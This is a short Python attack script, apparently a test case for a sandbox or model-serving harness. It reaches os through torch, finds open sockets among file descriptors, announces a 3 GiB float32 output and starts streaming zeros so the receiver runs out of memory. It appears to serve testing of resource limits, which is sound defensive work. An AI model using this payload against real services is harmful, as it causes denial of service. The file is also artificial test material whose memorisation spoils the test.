# attack: announces an answer of 3 GiB, so that the reader makes room for it, and begins to send it
# layer: limits
# where: forward
# status: out_of_memory
# score: none
import torch

os = torch.os
stat = __import__("stat")
HEADER = b'{"kind": "output", "arrays": [{"dtype": "float32", "shape": [805306368]}]}'


def attack():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, len(HEADER).to_bytes(4, "little") + HEADER)
                for _ in range(256):
                    os.write(descriptor, bytes(1 << 20))
        except OSError:
            continue
